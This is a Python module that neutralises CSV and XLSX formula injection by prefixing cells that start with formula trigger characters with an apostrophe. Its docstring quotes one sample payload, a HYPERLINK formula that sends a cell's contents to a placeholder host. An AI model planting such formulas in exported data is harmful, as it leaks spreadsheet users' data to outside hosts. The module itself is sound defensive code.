"""Cells written to CSV and XLSX as data, never as formulas (OWASP's CSV-injection guidance).

A provider's name or answer such as `=HYPERLINK("http://x/?"&A1,"Docs")` would otherwise run as
a formula in the buyer's spreadsheet. A string that starts with one of the formula triggers is
written with a leading apostrophe; numbers, dates and booleans stay what they are.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(v) for v in values]
